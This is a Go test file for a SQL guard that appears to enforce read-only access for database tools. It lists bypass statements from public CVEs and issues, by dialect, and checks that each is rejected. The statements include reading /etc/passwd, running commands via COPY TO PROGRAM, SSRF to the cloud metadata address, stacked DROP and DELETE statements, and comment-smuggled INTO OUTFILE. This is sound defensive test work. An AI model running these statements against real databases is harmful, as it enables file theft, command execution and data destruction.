package guard

import "testing"

// publicCases are statements that passed the checks of others, by the public report
// of each.
var publicCases = map[string]map[Dialect][]string{
	"Superset CVE-2024-39887": {PostgreSQL: {"SELECT pg_read_file('/etc/passwd')", "SELECT query_to_xml('SELECT 1', true, true, '')", "SELECT database_to_xml(true, true, '')"}},
	"Superset CVE-2024-53947": {PostgreSQL: {"SELECT query_to_xml_and_xmlschema('SELECT 1', true, true, '')", "SELECT table_to_xml('orders', true, true, '')", "SELECT table_to_xml_and_xmlschema('orders', true, true, '')"}},
	"Superset CVE-2025-55674": {
		PostgreSQL: {"SELECT version/**/()", "SELECT pg_sleep/* x */(1)"}, MySQL: {"SELECT version/**/()", "SELECT /*!50000 version() */"},
		ClickHouse: {"SELECT version/**/()"}, SQLServer: {"SELECT db_name/**/()"},
	},
	"Superset CVE-2026-23984": {PostgreSQL: {"WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x", "SET TRANSACTION READ WRITE", "SELECT lo_create(0)", "SELECT set_config('transaction_read_only', 'off', false)"}},
	"Superset CVE-2026-23969": {ClickHouse: {"SELECT hostName()", "SELECT currentUser()", "SELECT * FROM url('http://x')", "SELECT getSetting('x')", "SELECT * FROM system.users"}},
	"crystaldba/postgres-mcp issue 178": {PostgreSQL: {"SELECT * FROM pg_read_file('/etc/passwd')", "SELECT * FROM pg_ls_dir('/')", "SELECT * FROM ROWS FROM (pg_read_file('/etc/passwd'))", "SELECT hypopg_create_index('x')",
		"SELECT pg_current_xact_id()", "SELECT * FROM pg_control_system()"}},
	"pgEdge postgres-mcp PR 196":    {PostgreSQL: {"SELECT 1; COMMIT; CREATE TABLE x (a int)", "COMMIT"}},
	"pgEdge postgres-mcp issue 220": {PostgreSQL: {"SELECT pg_read_file('/etc/passwd')", "SELECT pg_read_binary_file('/etc/passwd')", "SELECT lo_import('/etc/passwd')", "COPY (SELECT 1) TO PROGRAM 'id'"}},
	"reference Postgres MCP server": {PostgreSQL: {"COMMIT; DROP SCHEMA public CASCADE", "ROLLBACK; DELETE FROM orders"}, MySQL: {"COMMIT; DROP TABLE orders"}, SQLServer: {"COMMIT DROP TABLE orders"}},
	"DeepSQL PR 112":                {PostgreSQL: {"SELECT dblink_exec('host=x', 'DELETE FROM orders')", "SELECT * FROM dblink('host=x', 'SELECT 1') AS t (a int)"}},
	"bytebase/dbhub PR 315":         {PostgreSQL: {"WITH x AS (INSERT INTO orders VALUES (1) RETURNING *) SELECT * FROM x"}, MySQL: {"WITH x AS (SELECT 1) DELETE FROM orders"}, SQLServer: {"WITH x AS (SELECT 1 AS a) DELETE FROM orders"}},
	"bytebase/dbhub issue 275":      {MySQL: {"SELECT 1 /*! INTO OUTFILE '/tmp/x' */", "/*! DROP TABLE orders */", "SELECT 1 /*!50000 ; DROP TABLE orders */"}},
	"bytebase/dbhub issue 284":      {PostgreSQL: {"SELECT pg_terminate_backend(1)", "SELECT pg_reload_conf()"}, MySQL: {"SELECT RELEASE_ALL_LOCKS()", "SELECT GET_LOCK('x', 1)"}, SQLServer: {"SELECT * FROM sys.dm_exec_sessions"}},
	"sqlite-explorer issue 8": {PostgreSQL: {"WITH x AS (SELECT 1) DELETE FROM orders"}, MySQL: {"WITH x AS (SELECT 1) DELETE FROM orders"}, BigQuery: {"WITH x AS (SELECT 1) DELETE FROM orders WHERE TRUE"},
		Snowflake: {"WITH x AS (SELECT 1) DELETE FROM orders"}, SQLServer: {"WITH x AS (SELECT 1 AS a) DELETE FROM orders"}, ClickHouse: {"WITH x AS (SELECT 1) DELETE FROM orders WHERE 1"}},
	"senrigan issue 46": {PostgreSQL: {"SELECT * FROM read_text('/etc/passwd')"}, ClickHouse: {"SELECT * FROM file('/etc/passwd')"}, Snowflake: {"SELECT * FROM read_text('/etc/passwd')"}},
	"agno issue 8643":   {PostgreSQL: {"COPY orders TO '/tmp/x'", "COPY (SELECT 1) TO '/tmp/x'"}, Snowflake: {"COPY INTO @stage FROM orders"}},
	"libredb issue 516": {PostgreSQL: {`SELECT * FROM "read_text"('/etc/passwd')`}, ClickHouse: {`SELECT * FROM "file"('/etc/passwd')`, "SELECT * FROM 'file.csv'"}, Snowflake: {`SELECT * FROM "READ_TEXT"('x')`, "SELECT * FROM 'file.csv'"}},
	"langwatch PR 4434": {ClickHouse: {"SELECT * FROM url('http://169.254.169.254/', CSV, 'a String')", "SELECT * FROM orders WHERE id IN (SELECT a FROM url('http://x', CSV, 'a String'))"}},
	"ClickHouse PR 43316": {ClickHouse: {"SELECT * FROM s3('https://x/y.csv')", "SELECT * FROM remote('127.0.0.1', system.one)", "INSERT INTO FUNCTION s3('https://x') SELECT * FROM orders",
		"SELECT * FROM executable('x', TSV, 'a String')"}},
	"ClickHouse examples PR 123": {ClickHouse: {"SELECT * FROM orders SETTINGS readonly = 0", "SELECT * FROM orders SETTINGS max_execution_time = 0, max_memory_usage = 0", "SET readonly = 0"}},
	"probes of the guard's own": {
		PostgreSQL: {"SELECT lo_create(0)", "SELECT pg_notify('a', 'b')", "SELECT pg_advisory_lock(1)", "SELECT pg_sleep(9)", "SELECT set_config('statement_timeout', '0', false)", "SET TRANSACTION READ WRITE",
			"SELECT query_to_xml('SELECT 1', true, true, '')", "SELECT pg_logical_emit_message(false, 'a', 'b')", "NOTIFY x", "LISTEN x", "DO $$ BEGIN END $$", "PREPARE p AS DELETE FROM orders", "COPY orders TO STDOUT",
			`SELECT U&"\0070g_sleep"(1)`, "SELECT repeat('a', 2000000000)"},
		MySQL:     {"SELECT 1 /*M!100000 INTO OUTFILE '/tmp/x' */", `SELECT '\'' /*M!100000 INTO OUTFILE '/tmp/x' */`, "SELECT repeat('a', 2000000000)"},
		MariaDB:   {"SELECT 1 /*M!100000 INTO OUTFILE '/tmp/x' */", "SELECT 1 /*M! INTO OUTFILE '/tmp/x' */"},
		SQLServer: {"SELECT 1 WAITFOR DELAY '0:0:9'", "SELECT * FROM OPENROWSET(BULK '/etc/passwd', SINGLE_CLOB) x"},
	},
}

func TestPublicCases(t *testing.T) {
	t.Parallel()

	for name, dialects := range publicCases {
		t.Run(name, func(t *testing.T) {
			t.Parallel()

			for d, list := range dialects {
				g := newGuard(t, policyOf(d))
				for _, sql := range list {
					if got, err := g.Check(sql); err == nil {
						t.Errorf("%s: %s may run as %s", d, sql, got.SQL)
					}
				}
			}
		})
	}
}
